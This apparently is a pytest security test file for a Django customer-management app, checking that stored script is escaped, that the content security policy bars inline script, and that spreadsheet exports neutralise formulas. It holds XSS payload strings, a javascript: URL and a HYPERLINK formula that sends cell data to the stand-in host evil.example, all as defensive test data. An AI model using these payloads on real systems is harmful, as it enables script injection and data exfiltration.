"""Script stored in any text field comes back escaped, under a CSP without inline script."""

from __future__ import annotations

import pytest
from django.test import Client

from guanxi.organisation.models import Person, Unit
from tests.security.world import Planted, plant

PAYLOAD = '<script>alert(1)</script>"><img src=x onerror=alert(1)>'
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"


@pytest.fixture
def poisoned(people: dict[str, Person], units: dict[str, Unit]) -> Planted:
    return plant(
        actor=people["hq.manager"], unit=units["DIV1"], marker="脚本", code_seed=41, text=PAYLOAD
    )


def pages(w: Planted) -> list[str]:
    return [
        "/customers/",
        f"/customers/?q={w.customer.name}",
        f"/customers/{w.customer.pk}/",
        f"/customers/{w.customer.pk}/edit/",
        f"/contacts/{w.contact.pk}/",
        f"/contacts/{w.contact.pk}/edit/",
        f"/contacts/{w.contact.pk}/relationship/",
        f"/history/customer/{w.customer.pk}/",
        "/review/",
    ]


@pytest.mark.parametrize("who", ["div1.manager", "div1.staff"])
def test_every_page_escapes_stored_script(who: str, people, poisoned: Planted) -> None:  # type: ignore[no-untyped-def]
    client = Client()
    client.force_login(people[who])
    for path in pages(poisoned):
        answer = client.get(path)
        html = answer.content.decode()
        assert answer.status_code == 200, path
        assert "<script>alert(1)" not in html, path
        assert "onerror=alert(1)>" not in html.replace("&quot;", '"').replace("&gt;", "#"), path
        csp = answer["Content-Security-Policy"]
        script_src = next(d for d in csp.split(";") if d.strip().startswith("script-src"))
        assert "'unsafe-inline'" not in script_src, path


def test_the_payload_is_shown_as_text(people, poisoned: Planted) -> None:  # type: ignore[no-untyped-def]
    client = Client()
    client.force_login(people["div1.manager"])
    assert ESCAPED in client.get(f"/customers/{poisoned.customer.pk}/").content.decode()


def test_no_page_runs_inline_script(people, poisoned: Planted) -> None:  # type: ignore[no-untyped-def]
    client = Client()
    client.force_login(people["div1.manager"])
    for path in pages(poisoned):
        html = client.get(path).content.decode()
        assert " onclick=" not in html, path
        for chunk in html.split("<script")[1:]:
            opening = chunk.split(">")[0]
            assert " src=" in opening or 'type="application/json"' in opening, path


def test_a_javascript_url_is_never_a_link(people, units) -> None:  # type: ignore[no-untyped-def]
    from guanxi.customers.services import customer_create

    customer = customer_create(
        actor=people["hq.manager"],
        name="链接测试能源有限公司",
        owning_unit=units["DIV1"],
        tier="vip",
        website="javascript:alert(1)",
    )
    client = Client()
    client.force_login(people["div1.manager"])
    html = client.get(f"/customers/{customer.pk}/").content.decode()
    assert 'href="javascript:' not in html.lower()


def test_the_api_returns_the_text_as_data(api_as, poisoned: Planted) -> None:  # type: ignore[no-untyped-def]
    answer = api_as("div1.manager").get(f"/api/v1/customers/{poisoned.customer.pk}/")
    assert answer["Content-Type"].startswith("application/json")
    assert answer.json()["needs"] == PAYLOAD


@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
def test_an_export_neutralises_a_formula_in_every_text_cell(  # type: ignore[no-untyped-def]
    page_as, people, units, lead: str
) -> None:
    import io

    from openpyxl import load_workbook

    formula = f'{lead}HYPERLINK("http://evil.example/?"&A1,"点击")'
    plant(actor=people["hq.manager"], unit=units["DIV1"], marker="公式", code_seed=43, text=formula)
    answer = page_as("div1.manager").get("/customers/export.xlsx")
    sheet = load_workbook(io.BytesIO(answer.content)).worksheets[0]
    cells = [c for row in sheet.iter_rows(values_only=True) for c in row if isinstance(c, str)]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
